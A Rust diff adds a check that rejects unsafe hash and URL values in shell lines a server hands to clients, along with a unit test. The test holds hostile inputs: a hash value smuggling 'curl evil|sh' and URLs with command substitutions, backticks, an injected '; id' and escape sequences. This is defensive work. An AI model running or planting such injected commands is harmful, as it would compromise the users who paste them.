@@ -52,6 +52,28 @@ impl Served {
         Served { issuer, ..self }
     }
 
+    /// Whether it can stand in lines that people paste into a shell. An instance that was taken over must not get at its clients
+    /// by what it says of itself.
+    ///
+    /// # Errors
+    /// The member that holds something else than it should.
+    pub(crate) fn check(&self) -> Result<(), &'static str> {
+        let plain = |text: &str| {
+            let of_a_url = |c: char| c.is_ascii_alphanumeric() || ":/.-_~[]%@+=,".contains(c);
+            (text.starts_with("http://") || text.starts_with("https://")) && text.chars().all(of_a_url)
+        };
+        let all_plain = |urls: &[&Option<String>]| urls.iter().all(|url| url.as_deref().is_none_or(plain));
+        let Elsewhere { fulcio, rekor, tsa } = &self.elsewhere;
+        let hash = self.root_sha256.as_str();
+        match () {
+            () if hash.len() != 64 || !hash.chars().all(|c| c.is_ascii_hexdigit()) => Err("root_sha256"),
+            () if !plain(&self.tls_url) => Err("tls_url"),
+            () if !all_plain(&[&self.issuer]) => Err("issuer"),
+            () if !all_plain(&[fulcio, rekor, tsa]) => Err("elsewhere"),
+            () => Ok(()),
+        }
+    }
+
     /// The lines' input. Where the program is on the server is nobody's business and no use elsewhere: it goes by its name.
     pub(crate) fn instance(self) -> Instance {
         Instance {
@@ -185,4 +207,41 @@ async fn lines(State(setup): State<Arc<Setup>>, Path(name): Path<String>) -> Res
     };
     let lines = setup.served().instance().lines(client).join("\n");
     text(format!("# {}\n{lines}\n", remark(client)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nothing_that_a_shell_would_run_is_printed() {
+        let sound = Served::new("http://localhost:3000", "https://localhost:3443", b"root");
+        let sound = sound.with_issuer(Some("https://keycloak.example/realms/ci".to_owned()));
+        assert_eq!(sound.check(), Ok(()));
+        let hash = Served {
+            root_sha256: "0; curl evil|sh #".to_owned(),
+            ..sound.clone()
+        };
+        assert_eq!(hash.check(), Err("root_sha256"));
+        for url in [
+            "https://a.example/$(id)",
+            "https://a.example/`id`",
+            "https://a.example/; id",
+            "javascript:x",
+            "https://a.example/\u{1b}[2J",
+        ] {
+            let url = Some(url.to_owned());
+            let issuer = sound.clone().with_issuer(url.clone());
+            assert_eq!(issuer.check(), Err("issuer"), "{url:?}");
+            let elsewhere = Elsewhere {
+                tsa: url.clone(),
+                ..Elsewhere::default()
+            };
+            let elsewhere = Served {
+                elsewhere,
+                ..sound.clone()
+            };
+            assert_eq!(elsewhere.check(), Err("elsewhere"), "{url:?}");
+        }
+    }
 }
